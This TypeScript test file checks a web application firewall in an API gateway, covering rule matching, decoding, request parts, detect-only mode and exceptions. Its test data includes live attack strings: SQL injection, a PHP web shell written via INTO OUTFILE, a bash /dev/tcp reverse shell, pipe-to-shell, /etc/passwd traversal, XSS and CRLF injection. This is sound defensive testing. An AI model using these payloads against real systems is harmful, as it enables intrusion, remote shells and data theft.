import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { call, startTestGateway, startUpstream, type Answer, type TestGateway, type TestUpstream } from '../support/harness.ts';
import { assertProblem, checkRecord, traceOf } from '../support/assertions.ts';
import { post, WAF_KEY, wafConfig } from './waf-support.ts';

let upstream: TestUpstream;
let t: TestGateway;

before(async () => {
  upstream = await startUpstream();
  t = await startTestGateway(wafConfig(upstream.url));
});

after(async () => {
  await t.close();
  await upstream.close();
});

async function blockedBy(a: Answer, rule: string, part: string): Promise<string> {
  assertProblem(a, 403, 'waf_blocked');
  assert.equal(a.json.detail, `Blocked by web application firewall rule ${rule}.`, 'the caller learns the rule id and nothing else');
  const ev = checkRecord(await traceOf(t, a), 'waf').evidence!;
  assert.equal(ev.rule, rule, JSON.stringify(ev));
  assert.equal(ev.part, part, JSON.stringify(ev));
  return String(ev.fragment);
}

const json = (o: unknown) => JSON.stringify(o);

describe('each attack class is blocked in a JSON body, with rule, part and fragment in the trace', () => {
  const cases: [string, unknown, string, string, RegExp][] = [
    ['SQL injection tautology', { comment: "' OR 1=1 --" }, 'sqli-001', 'body.$.comment', /' or 1=/],
    ['unquoted tautology', { id: '5 or 1=1' }, 'sqli-002', 'body.$.id', /or 1=1/],
    ['UNION SELECT', { q: '0 UNION ALL SELECT NULL, version()' }, 'sqli-003', 'body.$.q', /union all select null/],
    ['stacked query', { name: "x'; DROP TABLE users; --" }, 'sqli-004', 'body.$.name', /'; drop table/],
    ['comment-terminated login', { user: "admin'--" }, 'sqli-005', 'body.$.user', /n'--/],
    ['time-based blind', { q: "1' AND SLEEP(5)" }, 'sqli-001', 'body.$.q', /' and sleep\(/],
    ['boolean blind through IF()', { q: "1' AND IF(1=1,1,0)" }, 'sqli-001', 'body.$.q', /' and if\(/],
    ['tautology with a single =', { user: 'x" || "a"="a' }, 'sqli-001', 'body.$.user', /" \|\| "a"=/],
    ['SQLite == tautology', { user: "' OR 1==1--" }, 'sqli-001', 'body.$.user', /' or 1==/],
    ['MySQL IF with a space', { q: "1' AND IF (1=1,SLEEP(5),0)" }, 'sqli-001', 'body.$.q', /' and if \(/],
    ['MySQL IF with a comment before its parenthesis', { q: "1' and if/**/(1=1,sleep(5),0)-- -" }, 'sqli-001', 'body.$.q', /' and if \(/],
    ['xp_cmdshell', { q: "1; EXEC xp_cmdshell 'dir'" }, 'sqli-004', 'body.$.q', /; exec x/],
    ['database sleep function', { q: '1 AND pg_sleep(5)' }, 'sqli-006', 'body.$.q', /pg_sleep\(/],
    ['@@version probe', { q: '1 + @@version' }, 'sqli-006', 'body.$.q', /@@version/],
    ['INTO OUTFILE', { q: "1 UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/x.php'" }, 'sqli-007', 'body.$.q', /into outfile/],
    ['script tag', { comment: 'hi <script>fetch("//x")</script>' }, 'xss-001', 'body.$.comment', /<script/],
    ['script tag with a space after the <', { comment: 'hi < SCRIPT>fetch(1)' }, 'xss-001', 'body.$.comment', /< script/],
    ['closing script tag with a space after the /', { comment: 'hi </ script>' }, 'xss-001', 'body.$.comment', /<\/ script/],
    ['event handler', { bio: '<svg/onload=alert(1)>' }, 'xss-002', 'body.$.bio', /<svg\/onload=/],
    ['javascript URL', { website: 'javascript:alert(1)' }, 'xss-003', 'body.$.website', /javascript:/],
    ['javascript URL split by a tab', { website: 'javas\tcript:alert(1)' }, 'xss-003', 'body.$.website', /javas cript:/],
    ['javascript URL split by a newline', { website: 'java\nscript:alert(1)' }, 'xss-003', 'body.$.website', /java script:/],
    ['iframe', { html: '<iframe src="https://evil.example">' }, 'xss-004', 'body.$.html', /<iframe/],
    ['deep traversal', { file: '../../../var/log/app.log' }, 'lfi-001', 'body.$.file', /\.\.\/\.\.\/\.\.\//],
    ['traversal to a secret', { file: '..\\..\\windows\\win.ini' }, 'lfi-002', 'body.$.file', /win\.ini/],
    ['absolute secret path', { path: '/etc/passwd' }, 'lfi-003', 'body.$.path', /\/etc\/passwd/],
    ['PHP wrapper', { page: 'php://filter/convert.base64-encode/resource=index' }, 'lfi-004', 'body.$.page', /php:\/\//],
    ['command separator', { host: '127.0.0.1; id' }, 'cmdi-001', 'body.$.host', /; id/],
    ['command substitution', { name: 'a$(uname -a)' }, 'cmdi-001', 'body.$.name', /\$\(uname/],
    ['pipe to a shell', { url: 'http://x | sh' }, 'cmdi-001', 'body.$.url', /\| sh/],
    ['reverse shell', { cmd: 'bash -i >& /dev/tcp/10.0.0.1/8080 0>&1' }, 'cmdi-002', 'body.$.cmd', /sh -i|\/dev\/tcp\//],
    ['a NUL byte', { file: 'report.pdf\u0000.php' }, 'proto-003', 'body.$.file', /\\u0000/],
  ];
  for (const [name, body, rule, part, fragment] of cases) {
    test(`${name} -> ${rule} at ${part}`, async () => {
      const before = upstream.seen.length;
      const got = await blockedBy(await post(t.url, '/api/comments', json(body)), rule, part);
      assert.match(got, fragment);
      assert.equal(upstream.seen.length, before, 'a blocked request never reaches the upstream');
    });
  }

  test('nested objects and arrays are named by their JSON path', async () => {
    await blockedBy(await post(t.url, '/api/comments', json({ thread: { replies: [{ text: 'ok' }, { text: '<script>x</script>' }] } })), 'xss-001', 'body.$.thread.replies[1].text');
  });

  test('a payload nested deeper than the part walker goes is still found in the raw body', async () => {
    const deep = '{"a":'.repeat(100) + '"<script>alert(1)</script>"' + '}'.repeat(100);
    await blockedBy(await post(t.url, '/api/comments', deep), 'xss-001', 'body');
  });

  test('pathological JSON (30 000 nested arrays) gets an answer, not a crash', async () => {
    const a = await post(t.url, '/api/comments', '['.repeat(30_000) + ']'.repeat(30_000));
    assert.ok(a.status === 201 || a.status === 403, `${a.status} ${a.text.slice(0, 200)}`);
  });

  test('an object key is inspected too', async () => {
    await blockedBy(await post(t.url, '/api/comments', json({ "name' or '1'='1": 1 })), 'sqli-001', 'body.$["name\' or \'1\'=\'1"]#key');
  });
});

describe('attacks are found in every request part', () => {
  test('in the query string', async () => {
    await blockedBy(await call(`${t.url}/api/comments?sort=${encodeURIComponent("name' or 'a'='a")}`, { headers: { 'x-api-key': WAF_KEY } }), 'sqli-001', 'query.sort');
  });

  test('in a header', async () => {
    await blockedBy(await call(`${t.url}/api/comments`, { headers: { 'x-api-key': WAF_KEY, 'user-agent': '<script>alert(1)</script>' } }), 'xss-001', 'header.user-agent');
  });

  test('in a cookie', async () => {
    await blockedBy(await call(`${t.url}/api/comments`, { headers: { 'x-api-key': WAF_KEY, cookie: 'theme=dark; lang=..%2F..%2F..%2Fetc%2Fpasswd' } }), 'lfi-001', 'cookie.lang');
  });

  test('in a path parameter', async () => {
    await blockedBy(await call(`${t.url}/api/files/${encodeURIComponent('<script>x')}`), 'xss-001', 'path');
  });

  test('in a form body', async () => {
    await blockedBy(await post(t.url, '/api/comments', 'title=Hi&comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E', 'application/x-www-form-urlencoded'), 'xss-002', 'body.comment');
  });

  test('in a multipart field and in an uploaded file name', async () => {
    const form = new FormData();
    form.append('title', 'hello');
    form.append('comment', "1' UNION SELECT password FROM users --");
    const a = await call(`${t.url}/api/comments`, { method: 'POST', headers: { 'x-api-key': WAF_KEY }, body: form });
    await blockedBy(a, 'sqli-003', 'body.comment');
    const files = new FormData();
    files.append('upload', new Blob(['plain text']), '../../../etc/passwd');
    await blockedBy(await call(`${t.url}/api/comments`, { method: 'POST', headers: { 'x-api-key': WAF_KEY }, body: files }), 'lfi-001', 'body.upload.filename');
  });

  test('in a text body', async () => {
    await blockedBy(await post(t.url, '/api/comments', 'hello <script>alert(1)</script>', 'text/plain'), 'xss-001', 'body');
  });

  test('in an XML body', async () => {
    await blockedBy(await post(t.url, '/api/comments', "<comment><text>x' OR '1'='1</text></comment>", 'application/xml'), 'sqli-001', 'body');
  });

  test('a binary body is not read as text', async () => {
    const a = await post(t.url, '/api/comments', "<script>' OR 1=1 --", 'application/octet-stream');
    assert.equal(a.status, 201, a.text);
  });

  test('JSON escapes in a body sent as text/plain are undone too (upstreams that parse JSON whatever the type)', async () => {
    await blockedBy(await post(t.url, '/api/comments', '{"c":"\\u003cscript\\u003ealert(1)"}', 'text/plain'), 'xss-001', 'body');
  });

  test('in a JSON body that does not parse, the raw text is inspected', async () => {
    await blockedBy(await post(t.url, '/api/comments', '{"comment": "<script>alert(1)</script>"', 'application/json'), 'xss-001', 'body');
  });
});

describe('decoding the way upstreams decode', () => {
  test('JSON unicode escapes are undone before matching', async () => {
    await blockedBy(await post(t.url, '/api/comments', '{"c":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}'), 'xss-001', 'body.$.c');
  });

  test('double URL-encoding in the query is decoded repeatedly', async () => {
    await blockedBy(await call(`${t.url}/api/comments?q=%253Cscript%253Ealert(1)`, { headers: { 'x-api-key': WAF_KEY } }), 'xss-001', 'query.q');
  });

  test('percent-encoding inside a JSON string is decoded (for backends that decode again)', async () => {
    await blockedBy(await post(t.url, '/api/comments', json({ file: '..%2F..%2F..%2Fetc%2Fhosts' })), 'lfi-001', 'body.$.file');
  });

  test('HTML entities are decoded (browsers decode them in attributes)', async () => {
    await blockedBy(await post(t.url, '/api/comments', json({ link: '<a href="&#106;avascript&#58;alert(1)">x</a>' })), 'xss-003', 'body.$.link');
  });

  test('SQL comments used as spaces and mixed case do not hide UNION SELECT', async () => {
    await blockedBy(await post(t.url, '/api/comments', json({ q: '1/**/UnIoN/**/SeLeCt/**/null,null--' })), 'sqli-003', 'body.$.q');
  });

  test('MySQL executable comments are read as the code they are', async () => {
    await blockedBy(await post(t.url, '/api/comments', json({ q: '1 /*!50000UNION*/ /*!50000SELECT*/ 1,2' })), 'sqli-003', 'body.$.q');
  });
});

describe('protocol abuse', () => {
  test('a Transfer-Encoding other than chunked is blocked (proto-002)', async () => {
    const { rawExchange } = await import('./raw-http.ts');
    const res = await rawExchange(t.url, `POST /api/comments HTTP/1.1\r\nHost: x\r\nX-API-Key: ${WAF_KEY}\r\nContent-Type: text/plain\r\nTransfer-Encoding: gzip, chunked\r\nConnection: close\r\n\r\n0\r\n\r\n`);
    assert.match(res, /^HTTP\/1\.1 403 /);
    assert.match(res, /proto-002/);
  });

  test('Content-Length with Transfer-Encoding never reaches the WAF: the HTTP parser refuses it with 400 request_malformed', async () => {
    const { rawExchange } = await import('./raw-http.ts');
    const res = await rawExchange(t.url, `POST /api/comments HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n`);
    assert.match(res, /^HTTP\/1\.1 400 /);
    assert.match(res, /request_malformed/);
  });

  test('invalid percent-encoding and %u encoding in the query are blocked (proto-005)', async () => {
    for (const q of ['q=100%zz', 'q=%u003cscript']) {
      await blockedBy(await call(`${t.url}/api/comments?${q}`, { headers: { 'x-api-key': WAF_KEY } }), 'proto-005', 'query');
    }
  });

  test('an overlong UTF-8 encoding is blocked (proto-006)', async () => {
    await blockedBy(await call(`${t.url}/api/comments?f=%c0%af%c0%afetc`, { headers: { 'x-api-key': WAF_KEY } }), 'proto-006', 'query');
  });

  test('an encoded NUL in the query is blocked (proto-003)', async () => {
    await blockedBy(await call(`${t.url}/api/comments?file=report.pdf%00.php`, { headers: { 'x-api-key': WAF_KEY } }), 'proto-003', 'query.file');
  });

  test('CRLF followed by a header in a query value is blocked (proto-007)', async () => {
    await blockedBy(await call(`${t.url}/api/comments?next=%2F%0d%0aSet-Cookie:%20admin=1`, { headers: { 'x-api-key': WAF_KEY } }), 'proto-007', 'query.next');
  });

  test('a header value over 8 KB is blocked (proto-004)', async () => {
    await blockedBy(await call(`${t.url}/api/comments`, { headers: { 'x-api-key': WAF_KEY, 'x-padding': 'a'.repeat(9000) } }), 'proto-004', 'header.x-padding');
  });
});

describe('modes, paranoia levels and exceptions', () => {
  test('detect-only mode lets the request through and records what would have been blocked', async () => {
    const a = await post(t.url, '/api/detect', json({ comment: '<script>alert(1)</script>' }));
    assert.equal(a.status, 201, a.text);
    const rec = checkRecord(await traceOf(t, a), 'waf');
    assert.equal(rec.outcome, 'continue');
    assert.equal(rec.evidence?.would_block, true, 'the finding is kept on a request that went through');
    assert.equal(rec.evidence?.rule, 'xss-001');
    assert.equal(rec.evidence?.part, 'body.$.comment');
    assert.equal(upstream.seen.at(-1)!.body, json({ comment: '<script>alert(1)</script>' }));
  });

  test('detect-only findings are kept in the trace when the request is refused later', async () => {
    const a = await call(`${t.url}/api/detect`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: json({ a: "' or 1=1--", b: '<script>' }) });
    assertProblem(a, 401, 'credential_missing');
    const ev = checkRecord(await traceOf(t, a), 'waf').evidence!;
    assert.equal(ev.would_block, true);
    assert.equal(ev.rule, 'sqli-001');
    assert.ok(Array.isArray(ev.also_matched) && (ev.also_matched as string[]).some((m) => m.startsWith('xss-001 at body.$.b')), JSON.stringify(ev));
  });

  test('an exception lets one rule pass on one part only', async () => {
    const code = "SELECT 1; DROP TABLE tmp_orders;";
    const ok = await post(t.url, '/api/snippets', json({ code: `x'; drop table tmp; -- ${code}`, title: 'cleanup' }));
    assert.equal(ok.status, 201, ok.text);
    await blockedBy(await post(t.url, '/api/snippets', json({ code: 'fine', title: "x'; DROP TABLE users" })), 'sqli-004', 'body.$.title');
    await blockedBy(await post(t.url, '/api/snippets', json({ code: '<script>alert(1)</script>' })), 'xss-001', 'body.$.code');
  });

  test('an exception with [*] covers every array index', async () => {
    const ok = await post(t.url, '/api/snippets', json({ files: [{ content: 'a' }, { content: '<script src="app.js"></script>' }] }));
    assert.equal(ok.status, 201, ok.text);
  });

  test('paranoia 2 adds broader rules that level 1 leaves alone', async () => {
    const body = json({ comment: 'I called alert(1) in my snippet' });
    assert.equal((await post(t.url, '/api/comments', body)).status, 201);
    await blockedBy(await post(t.url, '/api/strict', body), 'xss-101', 'body.$.comment');
  });

  test('an exception naming an unknown rule is a config error with its location', async () => {
    const bad = wafConfig(upstream.url, [{ id: 'bad', path: '/bad', methods: ['POST'], upstream: 'up', waf: { exceptions: [{ rule: 'sqli-999', part: 'body.$.x' }] } }]);
    await assert.rejects(startTestGateway(bad), /routes\[5\]\.waf\.exceptions\[0\]\.rule: unknown WAF rule "sqli-999"/);
  });

  test('a match in a password-like field is logged without the matched text', async () => {
    const a = await post(t.url, '/api/comments', json({ user: 'bob', password: "hunter2' or 1=1 --" }));
    assertProblem(a, 403, 'waf_blocked');
    const ev = checkRecord(await traceOf(t, a), 'waf').evidence!;
    assert.equal(ev.part, 'body.$.password');
    assert.match(String(ev.fragment), /^\[redacted \d+ chars\]$/);
    assert.doesNotMatch(JSON.stringify(await traceOf(t, a)), /hunter2/);
  });

  test('the API key header itself is never inspected', async () => {
    const a = await call(`${t.url}/api/comments`, { headers: { 'x-api-key': "pk_x'or'1'='1'--" } });
    assertProblem(a, 401, 'credential_unknown');
  });
});
